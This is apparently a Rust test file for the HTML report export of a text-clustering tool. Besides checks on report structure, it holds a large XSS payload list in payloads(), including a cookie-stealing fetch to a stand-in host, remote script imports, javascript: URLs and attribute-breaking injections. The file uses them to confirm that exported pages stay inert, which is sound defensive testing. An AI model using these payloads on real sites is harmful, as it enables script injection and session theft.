//! The report says what is in the workbook, and whatever that is, it is text there.

use std::collections::BTreeSet;

use kindred_engine::analyse::map::Method;
use kindred_engine::edits::Edit;
use kindred_engine::export::{self, ExportFormat};
use kindred_engine::items::{ItemId, normalise};
use kindred_engine::monitor::Silent;
use kindred_engine::sentence::Sentence;
use kindred_engine::topics::Sorting;
use kindred_engine::workbook::{MapKey, Origin, Workbook};
use scraper::{Html, Selector};

use crate::desk::{Desk, embedder, key, numbered, origin, sorting};
use crate::export::{facts, list_of, options, sorted, topic};

/// Every element that a report is made of.
const ELEMENTS: &str = "html head meta title style body header nav main section article footer div span p h1 h2 h3 \
    ul ol li dl dt dd a b bdi figure figcaption img table tbody tr th td details summary \
    svg defs g path circle rect use text image";

/// Every attribute.
const ATTRIBUTES: &str = "lang charset http-equiv content name class id href src alt style role aria-label aria-hidden \
    viewBox width height d fill transform x y cx cy r";

fn page(workbook: &Workbook, desk: &Desk) -> String {
    let path = desk.path("out.html");
    export::write(workbook, &path, &options(ExportFormat::Report), &facts(), &Silent)
        .expect("it can be written");
    std::fs::read_to_string(path).expect("a page")
}

fn texts(document: &Html, selector: &str) -> Vec<String> {
    let selector = Selector::parse(selector).expect("a sound selector");
    document.select(&selector).map(|element| element.text().collect()).collect()
}

/// Nothing in the page runs, asks for anything or is of another kind than what reports are made of.
fn check_harmless(page: &str) -> Html {
    let document = Html::parse_document(page);
    let all = Selector::parse("*").expect("a sound selector");
    for element in document.select(&all).map(|element| element.value()) {
        let name = element.name();
        assert!(
            ELEMENTS.split_whitespace().any(|known| known == name),
            "<{name}> is no part of it"
        );
        for (attribute, value) in element.attrs() {
            assert!(
                ATTRIBUTES.split_whitespace().any(|known| known == attribute),
                "{attribute}={value:?} of <{name}> is no part of it"
            );
            match attribute {
                "href" | "src" => {
                    let picture = value.strip_prefix("data:image/png;base64,");
                    let is_base64 = |text: &str| {
                        text.bytes()
                            .all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte))
                    };
                    let is_place = value.starts_with('#') && name != "image" && name != "img";
                    assert!(
                        is_place || picture.is_some_and(is_base64),
                        "<{name}> leads to {value:.60}"
                    );
                }
                "style" => assert!(
                    value.bytes().all(|b| b.is_ascii_alphanumeric() || b":;.%#-".contains(&b)),
                    "style {value:?} is only figures and colours"
                ),
                "content" | "http-equiv" => assert_eq!(name, "meta", "only of the head"),
                _ => {}
            }
        }
    }
    let policy = Selector::parse("meta[http-equiv='Content-Security-Policy']").expect("sound");
    let policies: Vec<&str> =
        document.select(&policy).filter_map(|meta| meta.value().attr("content")).collect();
    assert_eq!(
        policies,
        ["default-src 'none'; img-src data:; style-src 'unsafe-inline'"],
        "a browser is told so as well"
    );
    for styles in texts(&document, "style") {
        assert!(!styles.contains("url(") && !styles.contains("@import"), "styles ask for nothing");
    }
    document
}

/// Texts that have run in pages of others, in as many forms as there are ways out of a text.
fn payloads() -> Vec<String> {
    const RUN: [&str; 8] = [
        "alert(1)",
        "alert`1`",
        "fetch('http://evil.example/?'+document.cookie)",
        "top['al'+'ert'](1)",
        "eval(atob('YWxlcnQoMSk='))",
        "&#97;lert(1)",
        "\\u0061lert(1)",
        "import('//evil.example/x.js')",
    ];
    const AROUND: [&str; 63] = [
        "<script>RUN</script>",
        "</script><script>RUN</script>",
        "<SCRIPT SRC=//evil.example/x.js>RUN</SCRIPT>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "</title><script>RUN</script>",
        "</style><script>RUN</script>",
        "</textarea><script>RUN</script>",
        "</bdi></li></ul><script>RUN</script>",
        "--><script>RUN</script>",
        "<!--><script>RUN</script>",
        "]]><script>RUN</script>",
        "<![CDATA[<script>RUN</script>]]>",
        "<?xml version=\"1.0\"?><script>RUN</script>",
        "<svg><script>RUN</script></svg>",
        "<svg/onload=RUN>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=RUN>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN>#x\">",
        "<svg><foreignObject><iframe srcdoc=\"<script>RUN</script>\"></foreignObject></svg>",
        "<svg><a xlink:href=\"javascript:RUN\"><text>x</text></a></svg>",
        "</svg><script>RUN</script>",
        "</text></svg><img src=x onerror=RUN>",
        "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
        "<math href=\"javascript:RUN\">x</math>",
        "<img src=x onerror=RUN>",
        "<img src=\"x\" onerror=\"RUN\">",
        "<img src=`x` onerror=`RUN`>",
        "<img/src/onerror=RUN>",
        "<image src=x onerror=RUN>",
        "<img src=\"http://evil.example/RUN.png\">",
        "<img srcset=\"//evil.example/RUN 1x\">",
        "<picture><source srcset=//evil.example/RUN></picture>",
        "<body onload=RUN>",
        "<iframe src=\"javascript:RUN\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;RUN&lt;/script&gt;\"></iframe>",
        "<object data=\"javascript:RUN\"></object>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">RUN</object>",
        "<embed src=\"javascript:RUN\">",
        "<a href=\"javascript:RUN\">x</a>",
        "<a href=\"java\u{200b}script:RUN\">x</a>",
        "<a href=\"data:text/html,<script>RUN</script>\">x</a>",
        "<form action=\"javascript:RUN\"><input type=submit autofocus onfocus=RUN></form>",
        "<button formaction=\"javascript:RUN\">x</button>",
        "<input autofocus onfocus=RUN>",
        "<details open ontoggle=RUN>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN>",
        "<marquee onstart=RUN>",
        "<link rel=stylesheet href=\"//evil.example/RUN.css\">",
        "<link rel=prefetch href=\"//evil.example/RUN\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
        "<base href=\"//evil.example/RUN/\">",
        "<style>@import '//evil.example/RUN.css';</style>",
        "<p style=\"background:url(//evil.example/RUN)\">",
        "<template><script>RUN</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
        "\" onmouseover=\"RUN",
        "' onmouseover='RUN",
        "\"><script>RUN</script>",
        "'><script>RUN</script>",
        "` onmouseover=RUN `",
        "javascript:RUN",
        "{{constructor.constructor('RUN')()}}${RUN}<%= RUN %>",
    ];
    let forms = AROUND.iter().flat_map(|form| RUN.iter().map(|run| form.replace("RUN", run)));
    forms.map(|text| normalise(&text)).collect::<BTreeSet<_>>().into_iter().collect()
}

#[test]
fn nothing_in_the_words_runs_in_a_report() {
    let payloads = payloads();
    assert!(payloads.len() >= 500, "{} payloads", payloads.len());
    let desk = Desk::new();
    let mut list = list_of(payloads.iter().map(String::as_str));
    list.source_name = format!("{}.csv", payloads[1]);
    for (item, payload) in list.items.iter_mut().zip(payloads.iter().rev()) {
        item.category = Some(payload.clone());
    }
    // As many topics as there are payloads short enough to be a name.
    let names: Vec<&String> = payloads.iter().filter(|name| name.chars().count() <= 200).collect();
    let topics: Vec<_> = (0..)
        .zip(&names)
        .map(|(id, name)| {
            let mut topic = topic(id, name);
            topic.named_by_person = false;
            topic.alternates = vec![(*name).clone()];
            topic
        })
        .collect();
    let mut sorting = sorting(payloads.len(), 1, 0);
    for (item, place) in sorting.placements.iter_mut().enumerate() {
        place.topic = topics.get(item).map(|topic| topic.id);
        place.suggested = place.topic;
        place.runner_up = None;
    }
    let sorting = Sorting { topics, ..sorting };
    let name = payloads[0].clone();
    let origin = Origin { name, source_name: list.source_name.clone(), ..origin() };
    let workbook = Workbook::create(&desk.path("words.kindred"), &list, &origin, key());
    let workbook = workbook.expect("a workbook can be made");
    workbook.embed(&mut embedder(), &Silent).expect("any text has a spelling");
    workbook
        .apply(&Edit::ReplaceSorting { sorting, label: Sentence::verbatim("Sorted") })
        .expect("the sorting is sound");

    let mut hostile = facts();
    hostile.model_name = payloads[2].clone();
    hostile.written_at = payloads[3].clone();
    hostile.app_version = payloads[4].clone();
    let path = desk.path("<img src=x onerror=alert(1)>.html");
    export::write(&workbook, &path, &options(ExportFormat::Report), &hostile, &Silent)
        .expect("it can be written");
    let page = std::fs::read_to_string(path).expect("a page");
    let document = check_harmless(&page);
    let told: BTreeSet<String> = texts(&document, "ul.words li").into_iter().collect();
    assert!(told.iter().eq(&payloads), "every text is there to read, as it is");
    let told: BTreeSet<String> = texts(&document, "h3 bdi").into_iter().collect();
    assert!(names.iter().all(|name| told.contains(*name)), "so is every name of a topic");
    assert_eq!(texts(&document, "h1"), [payloads[0].as_str()], "and the workbook's");
}

#[test]
fn a_report_tells_topics_words_heatmap_map_and_method() {
    let desk = Desk::new();
    let list = numbered(420);
    let workbook = sorted(&desk, &list, sorting(420, 9, 1));
    let document = check_harmless(&page(&workbook, &desk));
    assert_eq!(texts(&document, "h1"), ["words"], "the workbook's name");
    let lead = texts(&document, "header .lead");
    assert_eq!(lead, ["420 phrases in 9 topics; 42 are unsorted."], "what there is");
    let sections = ["section#map", "section#heatmap", "section#topics", "section#method"];
    assert!(sections.iter().all(|part| texts(&document, part).len() == 1), "every part");
    assert_eq!(texts(&document, "article").len(), 10, "a card per topic and one for Unsorted");
    assert_eq!(texts(&document, "ul.words li").len(), 420, "every text once");
    let Some(profile) = workbook.topic_profiles().expect("all is embedded").first().cloned() else {
        panic!("there are topics")
    };
    let first = texts(&document, "article:first-of-type ul.words li");
    let typical: Vec<&str> =
        profile.typical.iter().map(|item| list.items[item.index()].text.as_str()).collect();
    assert_eq!(first[..typical.len()], typical, "typical ones first");
    assert_eq!(texts(&document, "svg .points use title").len(), 420, "a point per text");
    assert_eq!(texts(&document, ".overview li").len(), 10, "all topics at a glance");
    let method = texts(&document, "#method").concat();
    assert!(method.contains("84 texts were put in place by a person"), "pins: {method}");
    assert!(method.contains("32 numbers"), "dimensions: {method}");
    assert!(texts(&document, "footer").concat().contains("Kindred 0.1.0"), "who wrote it");
    let anchors = Selector::parse("a[href]").expect("a sound selector");
    for anchor in document.select(&anchors).filter_map(|anchor| anchor.value().attr("href")) {
        let target = texts(&document, anchor);
        assert_eq!(target.len(), 1, "{anchor} leads somewhere");
    }
}

#[test]
fn a_report_shows_the_map_that_was_laid_out() {
    let desk = Desk::new();
    let workbook = sorted(&desk, &numbered(60), sorting(60, 3, 1));
    let caption = |page: &str| texts(&check_harmless(page), ".map figcaption").concat();
    assert!(caption(&page(&workbook, &desk)).contains("PCA"), "the quick one if there is none");
    for (method, name) in [(Method::Tsne, "t-SNE"), (Method::Umap, "UMAP")] {
        let map = MapKey { model: key(), method, dims: 2 };
        workbook.lay_out(&map, &Silent, &mut |_| ()).expect("it can be laid out");
        assert!(caption(&page(&workbook, &desk)).contains(name), "{name} comes before");
    }
}

#[test]
fn a_report_can_be_written_of_any_list() {
    for count in [1, 2, 3, 41] {
        let desk = Desk::new();
        let workbook = sorted(&desk, &numbered(count), sorting(count, 2, 1));
        let document = check_harmless(&page(&workbook, &desk));
        assert_eq!(texts(&document, "ul.words li").len(), count, "{count} texts");
    }

    let desk = Desk::new();
    let workbook = desk.workbook(&list_of(["apple", "pear"]));
    let document = check_harmless(&page(&workbook, &desk));
    assert_eq!(texts(&document, ".empty").len(), 2, "neither a map nor a heatmap, and it says so");
    assert!(texts(&document, "header .lead")[0].contains("No topics"), "nor topics");
    assert_eq!(texts(&document, "ul.words li"), ["apple", "pear"], "only the texts");
    workbook.embed(&mut embedder(), &Silent).expect("any text has a spelling");
    let document = check_harmless(&page(&workbook, &desk));
    assert_eq!(texts(&document, ".empty").len(), 0, "vectors are enough for a map and a heatmap");
}

#[test]
fn a_report_of_a_long_list_stays_small() {
    let desk = Desk::new();
    let workbook = sorted(&desk, &numbered(4_000), sorting(4_000, 7, 1));
    let page = page(&workbook, &desk);
    let document = check_harmless(&page);
    assert_eq!(texts(&document, "ul.words li").len(), 4_000, "every text is there");
    assert_eq!(texts(&document, "details").len(), 8, "those after 200 in each topic on request");
    assert!(texts(&document, "summary").iter().all(|more| more == "and 300 more"), "and how many");
    assert_eq!(texts(&document, "svg .points use").len(), 0, "so many points are a picture");
    let picture = Selector::parse("svg image").expect("a sound selector");
    assert_eq!(document.select(&picture).count(), 1, "of pixels");
    assert!(page.len() < 2_000_000, "{} bytes", page.len());
}

#[test]
fn a_report_of_some_items_is_about_these() {
    let desk = Desk::new();
    let workbook = sorted(&desk, &numbered(100), sorting(100, 4, 1));
    let sorting = workbook.sorting();
    let topic = sorting.topics[2].id;
    let items: Vec<ItemId> = sorting.members(Some(topic)).collect();
    let some =
        export::ExportOptions { items: Some(items.clone()), ..options(ExportFormat::Report) };
    let path = desk.path("out.html");
    export::write(&workbook, &path, &some, &facts(), &Silent).expect("it can be written");
    let document = check_harmless(&std::fs::read_to_string(path).expect("a page"));
    assert_eq!(texts(&document, "article").len(), 1, "only the topic they are in");
    assert_eq!(texts(&document, "ul.words li").len(), items.len(), "only these texts");
    let lead = texts(&document, "header .lead").concat();
    assert!(lead.contains("of 100"), "and it says that there are more: {lead}");
}
